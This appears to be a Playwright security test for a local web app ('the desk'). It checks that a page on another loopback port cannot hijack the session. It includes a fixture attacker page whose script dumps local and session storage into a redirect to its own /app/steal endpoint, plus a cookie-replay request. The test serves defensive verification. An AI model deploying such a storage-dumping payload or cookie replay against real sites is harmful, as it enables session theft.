// F2: another program listening on a loopback port must not be able to take over the desk's
// session. Cookies ignore ports, so whatever the browser hands a page on 127.0.0.1:<other port>
// (here: everything it sends to that page's own /app/steal, and everything that page can read in
// its web storage) is what such a program gets; replayed against the desk, it must open nothing.
import { expect, test } from '@playwright/test';
import { listen, type Loopback } from '../helpers/loopback';
import { startDesk, type RunningDesk } from './desk';

interface Loot {
  cookie: string;
  url: string;
}

let desk: RunningDesk;
let attacker: Loopback;
const loot: Loot[] = [];

/** The attacker's page: it dumps its own web storage into the address of its own /app/steal. */
const ATTACKER_PAGE = `<!doctype html><title>free stuff</title><script>
  const dump = (s) => Object.fromEntries(Object.keys(s).map((k) => [k, s.getItem(k)]));
  location = '/app/steal?storage=' + encodeURIComponent(JSON.stringify({ local: dump(localStorage), session: dump(sessionStorage) }));
</script>`;

test.beforeAll(async () => {
  desk = await startDesk();
  attacker = await listen((req, res) => {
    if (req.url?.startsWith('/app/steal') === true) {
      loot.push({ cookie: req.headers.cookie ?? '', url: req.url });
      res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>thanks</title><p>stolen</p>');
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html' }).end(ATTACKER_PAGE);
  });
});
test.afterAll(async () => {
  await attacker.close();
  await desk.stop();
});

test('a page on another loopback port gets nothing that opens the desk', async ({ page }) => {
  await desk.signIn(page);
  await expect(page.getByTestId('balance-credits')).toHaveText('1,000');
  // What the desk's page holds for its session: every value of its web storage.
  const deskStorage = await page.evaluate(() => {
    // Runs in the page; this file's Node types do not know the DOM's Storage.
    const { localStorage, sessionStorage } = globalThis as unknown as Record<'localStorage' | 'sessionStorage', Record<string, string>>;
    return [...Object.values(localStorage), ...Object.values(sessionStorage)];
  });
  expect(deskStorage.length).toBeGreaterThan(0);

  const other = await page.context().newPage();
  await other.goto(`${attacker.url}/`);
  await expect(other.getByText('stolen')).toBeVisible();
  expect(loot).toHaveLength(1);
  const stolen = loot[0] as Loot;

  // The attacker's page read its own storage, not the desk's: no value of the desk's is in its loot.
  for (const value of deskStorage) {
    expect(decodeURIComponent(stolen.url)).not.toContain(value);
    expect(stolen.cookie).not.toContain(value);
  }

  // Replay what was captured, the way a local program would: the desk's Origin and Host, the cookie.
  const replay = await fetch(`${desk.url}/app/rpc/keys.list`, { method: 'POST', headers: { origin: desk.url, cookie: stolen.cookie, 'content-type': 'application/json' }, body: '{}' });
  expect(replay.status).toBe(401);
  expect(await replay.json()).toMatchObject({ ok: false, error: { code: 'unauthorized' } });

  // The desk itself still works in its own tab.
  await page.getByRole('button', { name: 'Settings' }).click();
  await expect(page.getByTestId('balance-credits')).toHaveText('1,000');
});

test('a second tab of the desk is signed in; a used link leaves a fresh browser at the owner-key sign-in', async ({ page, browser }) => {
  // The first test used the one-time link; this page's storage is fresh, so it starts signed out.
  await page.goto(desk.loginUrl);
  await expect(page.getByLabel('Owner key')).toBeVisible();
  await desk.signIn(page);
  await expect(page.getByTestId('balance-credits')).toHaveText('1,000');
  expect(page.url()).toBe(`${desk.url}/app/`);

  const second = await page.context().newPage();
  await second.goto(`${desk.url}/app/`);
  await expect(second.getByTestId('balance-credits')).toHaveText('1,000');

  // Another browser profile has none of it.
  const elsewhere = await browser.newContext();
  const stranger = await elsewhere.newPage();
  await stranger.goto(`${desk.url}/app/`);
  await expect(stranger.getByLabel('Owner key')).toBeVisible();
  await elsewhere.close();
});
